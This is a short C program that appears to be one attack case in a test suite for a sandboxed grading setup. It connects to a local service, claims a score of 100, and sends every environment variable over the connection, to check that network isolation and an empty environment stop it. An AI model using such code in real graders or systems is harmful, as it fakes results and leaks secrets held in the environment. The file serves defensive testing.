/*
 * attack: sends its score, and its environment, to a service of the machine
 * row: A11
 * would show: the service received it
 * unconfined: works
 * defence: a network namespace and an empty environment; the instructor
 *   publishes results
 */
#include "attack.h"

extern char **environ;

int main(void) {
    int fd = dial();
    if (fd != -1) {
        dprintf(fd, "score 100 from @MARK@\n");
        for (char **e = environ; *e; e++)
            dprintf(fd, "%s\n", *e);
        worked("the service was told");
    }
    return 1;
}
